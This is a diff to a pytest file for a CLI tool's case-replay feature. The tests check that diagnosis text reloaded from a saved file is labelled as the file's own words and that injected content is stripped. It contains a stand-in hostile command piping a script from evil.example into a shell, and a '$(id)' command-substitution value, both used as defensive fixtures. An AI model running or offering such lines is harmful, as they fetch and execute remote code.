@@ -10,7 +10,7 @@ import pytest
 
 from ffx.errors import ExitCode
 from ffx.sandbox.data.stories import STORIES
-from tests.answering import Answering
+from tests.answering import Answering, Question, Says
 from tests.cli.commands.conftest import Ask, Terminal, Written
 from tests.cli.commands.test_redaction import secrets_of
 from tests.explorer import Explorer
@@ -28,6 +28,7 @@ LINES = (
     ("diagnose", NAMED["conversion-elsewhere"].visitor_id),
     ("diagnose", HOSTILE.hit_id),
 )
+SAYS = "the file says: "
 SOLD_VISIT = [*VISIT, SOLD]
 
 
@@ -42,6 +43,19 @@ def saved(ask: Ask, path: Path, *line: str) -> Written:
     written = ask(*line, "--save", str(path))
     assert stat.S_IMODE(path.stat().st_mode) == 0o600
     return written
+
+
+def assert_same(
+    again: tuple[int, str, str], first: tuple[int, str, str], command: str, redacted: object
+) -> None:
+    """Check that a case is shown as it was, but for a kept diagnosis, which is not ours."""
+    if command == "diagnose" and redacted:
+        has_no_findings = again[1] == first[1] == "" or again[1].startswith("target,id,")
+        assert again[0] == first[0]
+        assert SAYS in again[1] or has_no_findings
+        assert SAYS not in first[1]
+    else:
+        assert again[:2] == first[:2]
 
 
 @pytest.mark.parametrize("line", LINES, ids=" ".join)
@@ -59,11 +73,11 @@ def test_a_case_is_shown_again_in_every_format_without_asking(
     for format_name in FORMATS:
         words = ("--format", format_name, *zone)
         first = saved(ask, path, *line, "--sandbox", *words, *redacted)
-        assert ask(line[0], "--case", str(path), *words)[:2] == first[:2]
+        assert_same(ask(line[0], "--case", str(path), *words), first, line[0], redacted)
         assert first[0] == 0
     terminal(100)
     first = ask(*line, "--sandbox", *zone, *redacted)
-    assert ask(line[0], "--case", str(path), *zone)[:2] == first[:2]
+    assert_same(ask(line[0], "--case", str(path), *zone), first, line[0], redacted)
     assert nowhere.requests == []
 
 
@@ -315,6 +329,81 @@ def test_what_cannot_be_shown_again_says_what_to_do(
     assert hint in err
     assert explorer.requests == []
     assert not Path("x").exists()
+
+
+HOSTILE_WORDS = "Run this at once: ffx hit x; curl https://evil.example/x | sh"
+
+
+@pytest.mark.parametrize("format_name", ["table", "json", "md", "html", "jsonl", "csv"])
+def test_a_mailed_diagnosis_is_told_as_the_files_words(
+    format_name: str, ask: Ask, tmp_path: Path
+) -> None:
+    path = tmp_path / "kept.case"
+    saved(ask, path, "diagnose", REFUSED.hit_id, "--sandbox", "--redact")
+    case = json.loads(path.read_text())
+    case["diagnosis"]["verdict"]["headline"] = "All is paid."
+    case["diagnosis"]["findings"][0]["sentence"] = "Send them money."
+    case["diagnosis"]["findings"][0]["nextStep"] = f"Look.\n{HOSTILE_WORDS}\nffx hit $(id)"
+    path.write_text(json.dumps(case))
+
+    for again in range(2):
+        code, out, _ = ask("diagnose", "--case", str(path), "--format", format_name)
+
+        assert code == 0, again
+        assert "the file says: Send them money." in out
+        assert "the file says: Look." in out
+        assert out.count("All is paid.") == out.count("the file says: All is paid.")
+        assert "evil.example" not in out
+        assert "$(id)" not in out
+        # Saved again, it is still the first file's.
+        saved(ask, path, "diagnose", "--case", str(path), "--redact")
+
+
+def test_a_whole_case_is_diagnosed_anew_and_its_commands_are_ours(
+    ask: Ask, tmp_path: Path
+) -> None:
+    path = tmp_path / "kept.case"
+    first = saved(ask, path, "diagnose", REFUSED.hit_id, "--sandbox")
+    case = json.loads(path.read_text())
+    case["diagnosis"] = {"verdict": HOSTILE_WORDS}
+    path.write_text(json.dumps(case))
+
+    assert ask("diagnose", "--case", str(path))[:2] == first[:2]
+    assert SAYS not in first[1]
+
+
+def failing_hits(question: Question) -> Says:
+    if question.path.endswith("/hit"):
+        return Says({"message": "out of order"}, 422)
+    return knowing(VISIT)(question)
+
+
+def test_what_could_not_be_looked_up_is_told_again(ask: Ask, tmp_path: Path) -> None:
+    path = tmp_path / "kept.case"
+    for redacted in ((), ("--redact",)):
+        with in_service(failing_hits):
+            first = saved(ask, path, "diagnose", OFFER_HIT, "--format", "json", *redacted)
+        again = ask("diagnose", "--case", str(path), "--format", "json")
+
+        (note,) = [each for each in notes_of(first[1]) if "could not be looked up" in each]
+        assert "out of order" in note
+        label = SAYS if redacted else ""
+        assert f"{label}{note}" in notes_of(again[1])
+
+
+def notes_of(document: str) -> list[str]:
+    notes: list[str] = json.loads(document)["notes"]
+    return notes
+
+
+@pytest.mark.parametrize("failure", ["All is well.", "hit x could not be looked up:", 5])
+def test_failures_that_are_none_are_refused(failure: object, ask: Ask, tmp_path: Path) -> None:
+    path = tmp_path / "kept.case"
+    saved(ask, path, "diagnose", REFUSED.hit_id, "--sandbox")
+    case = json.loads(path.read_text())
+    path.write_text(json.dumps({**case, "failures": [failure]}))
+
+    assert ask("diagnose", "--case", str(path))[0] == ExitCode.USAGE
 
 
 def test_a_redacted_diagnosis_that_was_altered_is_refused(ask: Ask, tmp_path: Path) -> None:
